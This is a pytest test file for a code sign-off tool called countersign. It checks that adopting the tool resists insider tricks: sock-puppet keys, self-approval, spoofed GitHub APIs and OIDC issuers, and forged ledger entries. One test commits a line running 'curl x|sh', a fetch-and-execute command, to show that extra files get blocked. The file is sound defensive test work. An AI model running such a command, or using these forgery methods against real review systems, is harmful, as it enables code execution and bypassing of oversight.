"""Adopting countersign: ``init``, edit the roster, ``adopt``, then the pull request in the
GitHub Action's emulated runner, on real repositories. The first roster is its author's word, so
the attacks come first: a sock puppet with the author's key, a break-glass, an administrator who
wrote the change, a reviewer GitHub does not call an administrator, extra files riding along,
and a later change that tries the adoption path again."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest
from actions_runner import environment, run_action
from fake_oidc import FakeIssuer, fake_issuer
from fake_reviews import FakeReviews, fake_reviews

from countersign.intake.selection import ChangeSelection
from countersign.main import main
from countersign.signoff.ledger import open_ledger
from countersign.workspace import open_workspace, repository_state_dir

ROOT = Path(__file__).parents[2]
ACTION = ROOT / "action.yml"
FIXTURES = ROOT / "tests" / "fixtures" / "github"
REPOSITORY = "Codertocat/Hello-World"
MAL = "Mallory <mallory@example.com>"


def cs(repo, *args: str) -> int:
    return main([*args, "-C", str(repo.path)])


def roster(ssh_keys, *extra: str) -> str:
    """The roster Mallory writes: herself, the repository's administrator (Ada) and anyone she
    adds; levels filled in by her."""
    people = [
        "  - {id: mallory, emails: [mallory@example.com], level: junior, github: mal-dev}",
        "  - {id: ada, emails: [ada@example.com], level: principal, github: ada-admin}",
        "  - {id: walt, emails: [walt@example.com], level: principal, github: walt-writer}",
        *extra,
    ]
    text = "people:\n" + "\n".join(people) + "\nagents: [noreply@anthropic.com]\n"
    for name, key in ssh_keys.items():
        text = text.replace("{" + name + "}", key.public)
    return text


@pytest.fixture
def github():
    """The repository's GitHub (its API on loopback) and its Actions OIDC issuer."""
    with fake_reviews() as api, fake_issuer() as issuer:
        yield api, issuer


def forge_pin(api: FakeReviews, issuer: FakeIssuer, repository: str = REPOSITORY) -> str:
    """What the adoption's policy.yaml pins: init writes `forge: {repository: ...}` from a
    github.com origin; here the GitHub is on loopback, so its API and issuer are named."""
    return (
        f"\nforge:\n  repository: {repository}\n  api: {api.url}\n"
        f"  oidc: {{issuer: {issuer.url}}}\n"
    )


@pytest.fixture
def adopting(repo, ssh_keys, capsys, github):
    """A project with history and no countersign; Mallory runs init, writes the roster, pins
    the repository's GitHub, adopts."""
    repo.write(".gitignore", ".countersign/ledger.db*\ncountersign.sarif\n")
    repo.commit("start", author="Ada <ada@example.com>", **{"app/main.py": "print('hi')\n"})
    repo.commit("work", author=MAL, **{"app/main.py": "print('hello')\n"})
    assert cs(repo, "init") == 0
    repo.write(".countersign/people.yaml", roster(ssh_keys))
    policy = repo.path / ".countersign" / "policy.yaml"
    policy.write_text(policy.read_text("utf-8") + forge_pin(*github), "utf-8")
    repo.git("config", "user.email", "mallory@example.com")
    repo.git("config", "user.name", "Mallory")
    capsys.readouterr()
    assert cs(repo, "adopt") == 0
    return repo


def test_adopt_commits_the_configuration_on_its_own_branch_and_says_who_signs_it(adopting, capsys):
    cs(adopting, "adopt")
    out = capsys.readouterr().out
    assert adopting.git("rev-parse", "--abbrev-ref", "HEAD") == "countersign-adopt"
    files = adopting.git("diff", "--name-only", "main...HEAD").splitlines()
    assert files
    assert all(f.startswith(".countersign/") for f in files)
    assert ".countersign/ledger.db" not in files
    assert "adoption/approvals" in out
    assert "A repository administrator who did not make this change approves it on GitHub" in out
    assert "ada (github: ada-admin)" in out
    assert "ledger keys it pins: " in out
    assert "must hold one of them" in out
    assert "mallory (github" not in out  # she runs adopt: she cannot be its reviewer
    assert cs(adopting, "check") == 1
    out = capsys.readouterr().out
    assert "adoption/approvals: 1 approval, by a repository administrator on GitHub" in out
    assert "approves the pull request on GitHub" in out
    assert (
        "adoption: a sign-off counts only from a ledger key its .countersign/ledger-keys pins, "
        f"confirmed by the GitHub it pins ({REPOSITORY} at http://127.0.0.1:"
    ) in out
    assert "policy-change" not in out.split("Requirements:")[1]


def test_adopt_refuses_a_branch_that_already_has_a_roster(adopting, capsys):
    adopting.git("checkout", "-q", "main")
    adopting.git("merge", "-q", "--no-ff", "-m", "merge", "countersign-adopt")
    capsys.readouterr()
    assert cs(adopting, "adopt") == 3
    err = capsys.readouterr().err
    assert "main already has .countersign/people.yaml: countersign is adopted there" in err


def test_adopt_refuses_a_roster_the_gate_would_reject_and_one_naming_no_github_login(repo, capsys):
    repo.commit("start", **{"a.py": "a\n"})
    repo.write(".countersign/people.yaml", "people:\n  - {id: x, levle: senior}\n")
    assert cs(repo, "adopt") == 3
    captured = capsys.readouterr()
    assert "error: people.yaml: people[0].levle: unknown field 'levle'" in captured.out
    repo.write(".countersign/people.yaml", "people:\n  - {id: x, level: senior}\n")
    assert cs(repo, "adopt") == 3
    assert "gives nobody but you a `github:` login" in capsys.readouterr().err
    assert repo.git("rev-parse", "--abbrev-ref", "HEAD") == "main"


def test_no_key_in_the_new_roster_signs_the_adoption_not_even_a_principal_sock_puppet(
    adopting, ssh_keys, capsys
):
    # Mallory adds "dave", a principal whose key is hers, and signs as him
    adopting.write(
        ".countersign/people.yaml",
        roster(
            ssh_keys,
            '  - {id: dave, emails: [dave@example.com], level: principal, keys: ["{mallory}"]}',
        ),
    )
    adopting.commit("add dave", author=MAL)
    capsys.readouterr()
    key = str(ssh_keys["mallory"].path)
    assert cs(adopting, "approve", "--key", key) == 3
    assert "this change adopts countersign" in capsys.readouterr().err
    assert cs(adopting, "break-glass", "--key", key, "--reason", "r", "--incident", "I-1") == 3
    assert "no key in it proves anyone" in capsys.readouterr().err
    assert cs(adopting, "check") == 1


def test_an_adoption_carrying_other_files_is_blocked_and_no_break_glass_lifts_that(
    adopting, capsys
):
    adopting.commit("sneak", author=MAL, **{"app/main.py": "import os; os.system('curl x|sh')\n"})
    capsys.readouterr()
    assert cs(adopting, "check") == 2
    out = capsys.readouterr().out
    assert "An adoption change may only add .countersign/" in out


# --- the pull request, in the Action's emulated runner ---------------------------------------


def event(repo, tmp_path: Path, name: str, base: str = "main", **review: object) -> Path:
    data = json.loads((FIXTURES / f"{name}.json").read_text("utf-8"))
    pr = data["pull_request"]
    pr["base"]["sha"] = repo.git("rev-parse", base)
    pr["head"]["sha"] = repo.git("rev-parse", "HEAD")
    pr["head"]["ref"] = repo.git("rev-parse", "--abbrev-ref", "HEAD")
    pr["user"]["login"] = "mal-dev"
    if "review" in data:
        data["review"].update({"commit_id": pr["head"]["sha"], "state": "approved", **review})
    path = tmp_path / f"{name}.{len(list(tmp_path.glob('*.event.json')))}.event.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def job(
    repo,
    tmp_path: Path,
    name: str,
    path: Path,
    api: FakeReviews | None = None,
    issuer: FakeIssuer | None = None,
    **over: str,
):
    """The Action's steps for event ``name``, as GitHub's runner would run them; with ``api``
    GitHub knows the review (approved), with ``issuer`` the job can ask for its OIDC token,
    issued to the job the reviewer started (``over`` changes environment variables)."""
    temp = tmp_path / "runner-temp"
    temp.mkdir(exist_ok=True)
    env = {**environment(), "HOME": str(tmp_path), "GITHUB_REPOSITORY": REPOSITORY}
    env["PATH"] = f"{Path(sys.executable).parent}:{env.get('PATH', '')}"
    inputs = {"install": "false", "upload-sarif": "false"}
    data = json.loads(path.read_text("utf-8"))
    if api is not None:
        env["GITHUB_API_URL"] = api.url
        inputs["token"] = api.token
        if "review" in data:
            api.add(REPOSITORY, 2, {**data["review"], "state": "APPROVED"})
    if issuer is not None and "review" in data:
        env.update(issuer.env())
        issuer.claims = issuer.github_claims(
            actor=data["review"]["user"]["login"], sha=data["review"]["commit_id"]
        )
    env.update(over)
    return run_action(
        ACTION,
        workspace=repo.path,
        event_name=name,
        event_path=path,
        inputs=inputs,
        env=env,
        temp=temp,
    )


def review(repo, tmp_path: Path, github, login: str, review_id: int, **over: str):
    api, issuer = github
    path = event(
        repo,
        tmp_path,
        "pull_request_review.submitted",
        id=review_id,
        user={"login": login},
    )
    return job(repo, tmp_path, "pull_request_review", path, api, issuer, **over)


def test_an_administrators_review_confirmed_by_github_turns_the_adoption_green(
    adopting, tmp_path, capsys, github
):
    opened = job(
        adopting, tmp_path, "pull_request", event(adopting, tmp_path, "pull_request.opened")
    )
    assert opened.outputs["verdict"] == "needs-approval"
    assert [m["id"] for m in json.loads(opened.outputs["missing"])] == ["adoption/approvals"]
    api, issuer = github
    api.grant(REPOSITORY, "ada-admin", "admin")
    done = review(adopting, tmp_path, github, "ada-admin", 11)
    asked = list(api.asked)
    assert done.failed is None, done.summary
    recorded = done.step("Record the review as a sign-off").stdout
    assert "as ada (GitHub review), identity forge" in recorded
    assert "repository permission admin and the job's OIDC token" in recorded
    assert any(p.startswith("/token") for p in issuer.asked)
    assert any(p.endswith("/collaborators/ada-admin/permission") for p in asked)
    assert done.outputs["verdict"] == "pass"
    assert cs(adopting, "status") == 0
    out = capsys.readouterr().out
    assert "ada (forge) at " in out
    assert "counts for adoption/approvals" in out


def test_a_principal_in_the_new_roster_who_is_no_administrator_does_not_count(
    adopting, tmp_path, github
):
    github[0].grant(REPOSITORY, "walt-writer", "maintain")  # write access, not admin
    done = review(adopting, tmp_path, github, "walt-writer", 12)
    assert done.outputs["verdict"] == "needs-approval"
    assert "not a repository administrator's review confirmed by GitHub" in done.summary


def test_a_review_github_did_not_confirm_does_not_count_even_from_an_administrator(
    adopting, tmp_path
):
    # no API to ask (no token): the event file alone says who reviewed
    path = event(
        adopting, tmp_path, "pull_request_review.submitted", id=13, user={"login": "ada-admin"}
    )
    done = job(adopting, tmp_path, "pull_request_review", path)
    assert done.outputs["verdict"] == "needs-approval"


def test_an_administrator_who_made_the_change_cannot_sign_it_off(adopting, tmp_path, github):
    adopting.commit("tweak", author="Ada <ada@example.com>", **{".countersign/x.txt": "x\n"})
    github[0].grant(REPOSITORY, "ada-admin", "admin")
    done = review(adopting, tmp_path, github, "ada-admin", 14)
    assert "ada is an author of this change; no self-approval" in done.summary
    assert done.outputs["verdict"] == "needs-approval"


def test_once_adopted_no_later_change_takes_the_adoption_path(adopting, tmp_path, ssh_keys, github):
    api, _ = github
    api.grant(REPOSITORY, "ada-admin", "admin")
    assert review(adopting, tmp_path, github, "ada-admin", 15).outputs["verdict"] == "pass"
    adopting.git("checkout", "-q", "main")
    adopting.git("merge", "-q", "--no-ff", "-m", "Merge countersign-adopt", "countersign-adopt")
    # the release holding the adoption passes the deploy gate: it was signed off as reviewed
    assert cs(adopting, "verify", "--base", "main~1") == 0
    # Mallory now makes herself principal; an administrator's review is no longer enough by
    # itself: the roster on main judges it (policy-change: a principal from that roster)
    adopting.git("checkout", "-q", "-b", "promote")
    adopting.commit(
        "promote mallory",
        author=MAL,
        **{
            ".countersign/people.yaml": roster(ssh_keys).replace(
                "level: junior", "level: principal"
            )
        },
    )
    # after the adoption, reviews are confirmed by the GitHub main's policy pins: the ones
    # the adoption brought (the forge, its OIDC issuer), whatever the job's environment says
    api.grant(REPOSITORY, "walt-writer", "admin")
    done = review(adopting, tmp_path, github, "walt-writer", 16)
    recorded = done.step("Record the review as a sign-off").stdout
    assert "repository permission" not in recorded  # GitHub was not asked: not an adoption
    assert f"confirmed with GitHub's API at {api.url} and the job's OIDC token" in recorded
    assert done.outputs["verdict"] == "pass"  # walt is a principal on main: a normal sign-off
    missing = json.loads(
        job(
            adopting, tmp_path, "pull_request", event(adopting, tmp_path, "pull_request.opened")
        ).outputs["missing"]
    )
    assert missing == []


def test_a_later_change_that_removes_the_roster_is_judged_by_it_not_adopted(
    adopting, tmp_path, capsys
):
    adopting.git("checkout", "-q", "main")
    adopting.git("merge", "-q", "--no-ff", "-m", "Merge countersign-adopt", "countersign-adopt")
    adopting.git("checkout", "-q", "-b", "replace-roster")
    adopting.git("rm", "-q", ".countersign/people.yaml")
    adopting.commit("drop roster", author=MAL)
    adopting.commit(
        "new roster",
        author=MAL,
        **{
            ".countersign/people.yaml": "people:\n  - {id: m2, emails: [m@x.example], level: principal, github: mal-dev}\n"
        },
    )
    capsys.readouterr()
    assert cs(adopting, "check") == 1
    out = capsys.readouterr().out
    assert "policy-change/approvals" in out
    assert "adoption" not in out.split("Requirements:")[1]


def test_a_patch_file_never_adopts(adopting, tmp_path, capsys):
    patch = tmp_path / "adopt.patch"
    patch.write_text(adopting.git("diff", "main...HEAD") + "\n", encoding="utf-8")
    adopting.git("checkout", "-q", "main")
    capsys.readouterr()
    cs(adopting, "check", "--patch", str(patch))
    out = capsys.readouterr().out
    assert "adoption/approvals" not in out
    assert "policy-change/approvals" in out


def test_adopt_takes_the_staged_ci_set_up_and_refuses_any_other_staged_file(repo, ssh_keys, capsys):
    repo.commit("start", **{"app.py": "a\n"})
    repo.write(".countersign/people.yaml", roster(ssh_keys))
    repo.write(".github/workflows/countersign.yml", "on: pull_request\njobs: {}\n")
    repo.write("app.py", "b\n")
    repo.git("add", ".github/workflows/countersign.yml", "app.py")
    assert cs(repo, "adopt") == 3
    assert "other files are staged (app.py)" in capsys.readouterr().err
    assert repo.git("rev-parse", "--abbrev-ref", "HEAD") == "main"  # nothing done yet
    repo.git("reset", "-q", "app.py")
    assert cs(repo, "adopt") == 0
    files = repo.git("diff", "--name-only", "main...HEAD").splitlines()
    assert files == [".countersign/people.yaml", ".github/workflows/countersign.yml"]


# --- attacks on the adoption's proof: nothing on main pins a forge or ledger keys yet ----------


def test_a_faked_job_environment_asks_the_adoptions_pinned_github_not_the_one_it_names(
    adopting, tmp_path, github
):
    # Mallory, on her laptop, plays the Actions runner: her own "GitHub" says she is admin
    with fake_reviews() as hers:
        hers.grant(REPOSITORY, "ada-admin", "admin")
        path = event(
            adopting, tmp_path, "pull_request_review.submitted", id=21, user={"login": "ada-admin"}
        )
        hers.add(REPOSITORY, 2, {**json.loads(path.read_text())["review"], "state": "APPROVED"})
        done = job(adopting, tmp_path, "pull_request_review", path, hers)
        asked = list(hers.asked)
    assert asked == []  # never asked: the adoption pins another GitHub
    assert "pins forge.api" in done.summary
    assert done.outputs["verdict"] == "needs-approval"


def test_an_adoption_pinning_a_github_of_its_authors_own_confirms_nothing(
    repo, ssh_keys, tmp_path, github, capsys
):
    # Mallory pins her own server (or a repository she administers) in the adoption itself
    with fake_reviews() as hers, fake_issuer() as her_issuer:
        repo.write(".gitignore", ".countersign/ledger.db*\ncountersign.sarif\n")
        repo.commit("start", author="Ada <ada@example.com>", **{"app.py": "a\n"})
        assert cs(repo, "init") == 0
        repo.write(".countersign/people.yaml", roster(ssh_keys))
        policy = repo.path / ".countersign" / "policy.yaml"
        policy.write_text(policy.read_text("utf-8") + forge_pin(hers, her_issuer), "utf-8")
        repo.git("config", "user.email", "mallory@example.com")
        assert cs(repo, "adopt") == 0
        hers.grant(REPOSITORY, "ada-admin", "admin")
        # the job runs where the repository really is: its GITHUB_API_URL is the real GitHub's
        done = review(
            repo, tmp_path, (hers, her_issuer), "ada-admin", 22, GITHUB_API_URL=github[0].url
        )
        assert f"pins forge.api {hers.url}, but this repository's GITHUB_API_URL is" in (
            done.summary
        )
        assert done.outputs["verdict"] == "needs-approval"
        # a pin of another repository than the one the clone is of counts for nothing either
        text = policy.read_text("utf-8").replace(REPOSITORY, "mallory/fork")
        repo.commit("pin my fork", author=MAL, **{".countersign/policy.yaml": text})
        repo.git("remote", "add", "origin", f"https://github.com/{REPOSITORY}.git")
        capsys.readouterr()
        assert cs(repo, "check") == 1
    out = capsys.readouterr().out
    assert "pins forge.repository mallory/fork, but this repository's origin is" in out


def forged_approval(adopting, state: Path, api: FakeReviews) -> None:
    """An adoption sign-off written into the shared ledger by hand, as GitHub-confirmed as
    its writer can make it look, signed by the ledger key in ``state``."""
    ws = open_workspace(adopting.path, ChangeSelection(base="main"))
    evidence = {
        "login": "ada-admin",
        "api": api.url,
        "repository": REPOSITORY,
        "pull_request": 2,
        "review": 99,
        "oidc": {"issuer": "x", "run_id": "1", "sha": adopting.git("rev-parse", "HEAD")},
    }
    ledger = open_ledger(adopting.path / ".countersign" / "ledger.db", state)
    ledger.append(
        "approval",
        {
            "approver": "ada",
            "fingerprint": ws.change.fingerprint,
            "requirements": [],
            "identity": {
                "claimed": "ada",
                "source": "forge",
                "authenticated": True,
                "strength": "forge",
                "permission": "admin",
                "forge": evidence,
            },
        },
    )


def test_a_sign_off_written_by_a_ledger_key_the_adoption_does_not_pin_counts_for_nothing(
    adopting, tmp_path, github, capsys
):
    forged_approval(adopting, tmp_path / "another-machine", github[0])
    capsys.readouterr()
    assert cs(adopting, "check") == 1
    assert cs(adopting, "status") == 0
    out = capsys.readouterr().out
    assert "which the adoption's .countersign/ledger-keys does not pin" in out


def test_a_sign_off_from_a_job_with_no_oidc_token_counts_for_nothing(adopting, tmp_path, github):
    github[0].grant(REPOSITORY, "ada-admin", "admin")
    path = event(
        adopting, tmp_path, "pull_request_review.submitted", id=23, user={"login": "ada-admin"}
    )
    done = job(adopting, tmp_path, "pull_request_review", path, github[0])  # no id-token
    assert "asks for the job's OIDC token" in done.summary
    assert done.outputs["verdict"] == "needs-approval"


def test_no_break_glass_lifts_an_adoption_not_even_one_marked_as_an_administrators(
    adopting, tmp_path, github, capsys
):
    ws = open_workspace(adopting.path, ChangeSelection(base="main"))
    state = repository_state_dir(adopting.path)  # the pinned machine's own key
    open_ledger(adopting.path / ".countersign" / "ledger.db", state).append(
        "break-glass",
        {
            "who": "ada",
            "fingerprint": ws.change.fingerprint,
            "reason": "locked out",
            "incident": "INC-1",
            "expires": "2099-01-01T00:00:00+00:00",
            "identity": {"claimed": "ada", "source": "forge", "permission": "admin"},
        },
    )
    capsys.readouterr()
    assert cs(adopting, "check") == 1
    out = capsys.readouterr().out
    assert "break-glass by" not in out
    assert "adoption/approvals" in out
